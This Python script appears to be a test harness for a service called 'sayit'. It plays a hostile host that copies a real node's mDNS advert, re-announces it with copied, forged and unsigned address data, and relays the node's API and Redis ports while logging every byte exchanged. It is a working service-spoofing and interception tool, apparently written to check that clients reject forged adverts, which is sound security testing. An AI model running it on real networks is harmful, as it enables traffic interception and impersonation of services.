"""A hostile host on the test LAN. Run inside a test network namespace only.

    impostor.py OWN_ADDR REAL_NODE_ID RECORD_DIR

1. Browses for ``_sayit._tcp`` until it sees the real node's advert (node id REAL_NODE_ID).
2. Re-advertises it from OWN_ADDR three ways, each under its own service name and with its own
   A record: ``copy`` (TXT copied byte for byte), ``forged`` (TXT with the signed address list
   rewritten to OWN_ADDR, signature kept), ``open`` (TXT rewritten to OWN_ADDR and marked as an
   unsigned open-cluster advert).
3. On OWN_ADDR it listens on the real node's API port and Redis port and relays both to the real
   node (so its HTTP answers like the real node), writing every byte it receives and sends, per
   port and direction, to RECORD_DIR.

Prints JSON lines: {"event": "ready", ...} once everything is up.
"""

from __future__ import annotations

import asyncio
import sys
import time
from pathlib import Path

from zeroconf import DNSQuestionType, IPVersion, ServiceStateChange
from zeroconf.asyncio import AsyncServiceBrowser, AsyncServiceInfo, AsyncZeroconf

from shared import emit

SERVICE_TYPE = "_sayit._tcp.local."


async def relay(listen: str, port: int, target: str, record: Path) -> asyncio.AbstractServer:
    async def pipe(reader, writer, log):
        try:
            while data := await reader.read(65536):
                with log.open("ab") as fh:
                    fh.write(data)
                writer.write(data)
                await writer.drain()
        except (ConnectionError, OSError):
            pass
        finally:
            writer.close()

    async def handle(c_reader, c_writer):
        (record / f"{port}.connections").open("a").write(f"{time.time()}\n")
        try:
            s_reader, s_writer = await asyncio.open_connection(target, port)
        except OSError:
            c_writer.close()
            return
        await asyncio.gather(pipe(c_reader, s_writer, record / f"{port}.in"),
                             pipe(s_reader, c_writer, record / f"{port}.out"))

    return await asyncio.start_server(handle, listen, port)


async def main(own: str, real_id: str, record: Path) -> None:
    record.mkdir(parents=True, exist_ok=True)
    aiozc = AsyncZeroconf(interfaces=[own], ip_version=IPVersion.V4Only)
    found: asyncio.Future = asyncio.get_running_loop().create_future()

    async def resolve(name: str) -> None:
        info = AsyncServiceInfo(SERVICE_TYPE, name)
        if await info.async_request(aiozc.zeroconf, 3000, question_type=DNSQuestionType.QM):
            props = dict(info.properties or {})
            if props.get(b"id", b"").decode() == real_id and not found.done():
                found.set_result(info)

    def on_change(zeroconf, service_type, name, state_change):
        if state_change is not ServiceStateChange.Removed:
            asyncio.ensure_future(resolve(name))

    browser = AsyncServiceBrowser(aiozc.zeroconf, SERVICE_TYPE, handlers=[on_change],
                                  question_type=DNSQuestionType.QM)
    real: AsyncServiceInfo = await asyncio.wait_for(found, 20)
    await browser.async_cancel()
    props = {k: v for k, v in (real.properties or {}).items()}
    real_addr = real.parsed_addresses(IPVersion.V4Only)[0]
    api_port = real.port
    redis_port = int(props[b"rp"])
    servers = [await relay(own, p, real_addr, record) for p in (api_port, redis_port)]

    variants = {
        "copy": props,
        "forged": {**props, b"a": own.encode()},
        "open": {k: v for k, v in {**props, b"a": own.encode(), b"k": b"open"}.items() if k not in (b"s", b"t")},
    }
    infos = []
    for label, txt in variants.items():
        info = AsyncServiceInfo(SERVICE_TYPE, f"evil-{label}.{SERVICE_TYPE}", port=api_port,
                                properties=txt, server=f"evil-{label}.local.", parsed_addresses=[own])
        await aiozc.async_register_service(info, allow_name_change=True)
        infos.append(info)
    emit(event="ready", real_address=real_addr, api_port=api_port, redis_port=redis_port,
         variants=list(variants))
    await asyncio.Event().wait()  # until killed


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], sys.argv[2], Path(sys.argv[3])))
